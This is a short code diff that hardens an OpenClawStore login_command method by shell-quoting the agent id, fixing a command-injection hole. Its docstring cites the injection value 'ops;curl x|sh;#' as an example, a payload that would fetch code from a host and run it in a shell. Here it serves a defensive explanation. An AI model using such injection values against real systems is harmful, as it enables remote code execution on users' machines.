@@ -7,6 +7,7 @@ from collections.abc import Mapping
 from typing import Any, ClassVar
 
 from ..errors import StoreMalformed
+from ..escape import shell_join
 from ..lockfile import OPENCLAW, LockStyle
 from ..models import QWEN_PROVIDER, Credentials, ProfileKey
 from .base import (
@@ -35,9 +36,12 @@ class OpenClawStore(Store):
         return None
 
     def login_command(self, profile: str) -> str:
+        """The agent id is a directory name: quoted (``escape.shell_join``), since people paste
+        this into a shell and a directory may be called ``ops;curl x|sh;#``."""
         agent = self.agent
         if agent and agent != "main":
-            return f"openclaw models --agent {agent} auth login --provider qwen-portal"
+            return shell_join(["openclaw", "models", "--agent", agent, "auth", "login",
+                               "--provider", "qwen-portal"])
         return LOGIN_COMMAND
 
     def empty_document(self) -> dict[str, Any]:
